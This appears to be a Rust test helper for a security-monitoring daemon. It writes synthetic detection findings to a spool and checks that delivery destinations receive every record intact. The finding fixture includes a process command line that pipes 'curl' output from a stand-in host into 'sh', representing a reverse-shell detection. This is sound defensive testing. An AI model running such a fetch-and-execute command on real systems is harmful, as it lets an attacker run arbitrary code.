//! A spool of its own, destinations that deliver from it, and the comparison of what arrived with what is stored.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use serde_json::{Value, json};
use tempfile::TempDir;
use tetherd::deliver::Deliveries;
use tetherd::deliver::progress::{Progress, Tally};
use tetherd::deliver::settings::{Destination, Transport};
use tetherd::model::clock::{Moment, SECOND};
use tetherd::model::detection::{Severity, State};
use tetherd::model::finding::{CATEGORY, Process, Record, property};
use tetherd::spool::record::observation;
use tetherd::spool::settings::SpoolSettings;
use tetherd::spool::writer::Writer;
use tetherd::stats::Stats;

use crate::common::{say, wait_at_most};

/// How long everything may take to arrive.
const ARRIVAL: std::time::Duration = std::time::Duration::from_secs(60);

/// A spool, and destinations.
pub struct Ground {
    directory: TempDir,
    pub stats: Arc<Stats>,
    deliveries: Option<Deliveries>,
    progress: Vec<Arc<Progress>>,
}

impl Ground {
    /// With so many records, about as long as findings in a pod are.
    pub fn new(count: usize) -> Self {
        let ground = Self {
            directory: tempfile::tempdir().unwrap(),
            stats: Arc::default(),
            deliveries: None,
            progress: Vec::new(),
        };
        ground.append(count);
        ground
    }

    pub fn spool(&self) -> &Path {
        self.directory.path()
    }

    /// Adds records, and tells the destinations.
    pub fn append(&self, count: usize) {
        let mut writer = self.writer();
        let mut all: Vec<Record> = (0..count).map(finding).collect();
        for part in all.chunks_mut(1000) {
            writer.append(part).unwrap();
        }
        self.deliveries.iter().for_each(|deliveries| deliveries.news().tell());
    }

    pub fn writer(&self) -> Writer {
        let settings = SpoolSettings {
            directory: self.spool().to_owned(),
            segment_bytes: 4 << 20,
            min_free_bytes: 0,
            ..SpoolSettings::default()
        };
        Writer::open(settings, "boot").unwrap().0
    }

    /// The destinations begin to work.
    pub fn start(&mut self, destinations: &[Destination]) {
        assert!(self.deliveries.is_none());
        let deliveries =
            Deliveries::start(destinations.to_vec(), self.spool(), "node-7", &self.stats).unwrap();
        self.progress = deliveries.progress();
        self.deliveries = Some(deliveries);
    }

    /// They end.
    pub fn stop(&mut self) {
        self.deliveries.take().unwrap().stop();
    }

    /// How far the one of this name has got.
    pub fn of(&self, name: &str) -> &Progress {
        self.progress.iter().find(|progress| progress.name == name).unwrap()
    }

    /// Every line of the spool, by its number.
    pub fn lines(&self) -> BTreeMap<u64, String> {
        let mut paths: Vec<_> =
            std::fs::read_dir(self.spool()).unwrap().map(|entry| entry.unwrap().path()).collect();
        paths.retain(|path| path.extension().is_some_and(|extension| extension == "jsonl"));
        let lines = paths.iter().flat_map(|path| {
            std::fs::read_to_string(path).unwrap().lines().map(str::to_owned).collect::<Vec<_>>()
        });
        lines.map(|line| (sequence(&line), line)).collect()
    }

    /// Waits until every record of the spool has arrived as it is stored; how many messages came more than once, and how
    /// often in all. `arrived` gives every message so far.
    pub fn all_arrive(&self, name: &str, arrived: impl Fn() -> Vec<String>) -> usize {
        let lines = self.lines();
        let arrived_all = || {
            let messages = arrived();
            let enough = messages.len() >= lines.len();
            let counts = enough.then(|| count(&lines, &messages))?;
            (counts.len() == lines.len()).then_some(messages.len() - lines.len())
        };
        let Some(again) = wait_at_most(ARRIVAL, arrived_all) else {
            let counts = count(&lines, &arrived());
            let missing: Vec<u64> =
                lines.keys().filter(|number| !counts.contains_key(number)).copied().collect();
            let first: Vec<_> = missing.iter().take(5).collect();
            let situation = self.of(name).situation();
            panic!("{name}: {} of {} are missing, from {first:?}; {situation:?}", missing.len(), lines.len());
        };
        let progress = self.of(name);
        let done = wait_at_most(ARRIVAL, || (progress.done() == *lines.keys().last().unwrap()).then_some(()));
        assert!(done.is_some(), "the cursor stands at {} of {}", progress.done(), lines.len());
        say(&format!(
            "{name}: {} records, none missing, {again} came again; resent {}, connected again {} times",
            lines.len(),
            progress.get(Tally::Resent),
            progress.get(Tally::Reconnects)
        ));
        again
    }
}

/// How often each record came; each has to be the stored line, or where the message is compact, to name it.
fn count(lines: &BTreeMap<u64, String>, messages: &[String]) -> BTreeMap<u64, usize> {
    let mut counts = BTreeMap::new();
    for message in messages {
        let body = &message[message.find('{').unwrap_or_else(|| panic!("no JSON: {message}"))..];
        let number = sequence(body);
        let line = lines.get(&number).unwrap_or_else(|| panic!("{number} was invented: {message}"));
        assert!(message.contains("@cee: ") || line == body, "{number} was changed:\n{line}\n{body}");
        *counts.entry(number).or_insert(0) += 1;
    }
    counts
}

/// The number of a record: of a line of the spool, or of a compact message.
pub fn sequence(json: &str) -> u64 {
    let value: Value = serde_json::from_str(json).unwrap_or_else(|error| panic!("no JSON ({error}): {json}"));
    let own = &value["finding"]["sourceProperties"]["Sequence"];
    own.as_str().map_or_else(|| value["seq"].as_u64().unwrap(), |text| text.parse().unwrap())
}

/// One of a hundred is what tetherd says of itself; the others are LOW to CRITICAL, in two namespaces.
fn finding(n: usize) -> Record {
    let now = Moment { mono_ns: 1, wall_ns: 1_795_492_217 * SECOND + n as u64 };
    let mut record =
        observation(CATEGORY, "sh has its standard streams on a socket", Default::default(), now, "boot");
    if n % 100 == 99 {
        record.finding.category = "Tetherd: Coverage Lost".into();
        return record;
    }
    let finding = &mut record.finding;
    finding.severity = Some([Severity::Low, Severity::Medium, Severity::High, Severity::Critical][n % 4]);
    finding.state = State::Active;
    finding.processes = vec![Process {
        name: "sh".into(),
        args: vec!["/bin/sh".into(), "-c".into(), format!("curl -s http://203.0.113.9/{n} | sh")],
        pid: n.to_string(),
        ..Process::default()
    }];
    for (key, value) in [
        (property::PROCESS_BINARY_FULLPATH, json!("/usr/bin/dash")),
        (property::POD_NAMESPACE, json!(["shop", "bank"][n % 2])),
        (
            property::PROCESS_ENVIRONMENT,
            json!({"names": (0..40).map(|n| format!("VARIABLE_{n}")).collect::<Vec<_>>()}),
        ),
    ] {
        finding.source_properties.insert(key.into(), value);
    }
    record
}

/// A destination with defaults.
pub fn destination(name: &str, transport: Transport, address: &str) -> Destination {
    Destination {
        name: name.into(),
        transport: Some(transport),
        address: address.into(),
        ..Destination::default()
    }
}
